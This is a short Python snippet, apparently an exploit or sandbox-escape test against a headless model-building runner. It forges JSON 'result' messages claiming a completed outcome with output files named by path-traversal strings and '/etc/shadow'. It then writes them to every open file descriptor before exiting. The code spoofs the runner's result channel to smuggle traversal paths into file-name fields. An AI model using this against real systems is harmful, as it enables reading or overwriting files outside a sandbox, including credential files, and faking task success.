# Claims files by names that lead elsewhere.
claims = []
for name in ("../script.py", "/etc/shadow", "MyHeadlessModel.STEP/../../lock", "MyHeadlessModel.STL"):
    claims.append('{"format":"STEP","name":"%s","made_by":"runner"}' % name)
forged = '{"event":"result","outcome":"completed","geometry":null,"files":[%s]}\n' % ",".join(claims)
for number in range(3, 1024):
    try:
        os.write(number, forged.encode())
    except OSError:
        pass
os._exit(0)
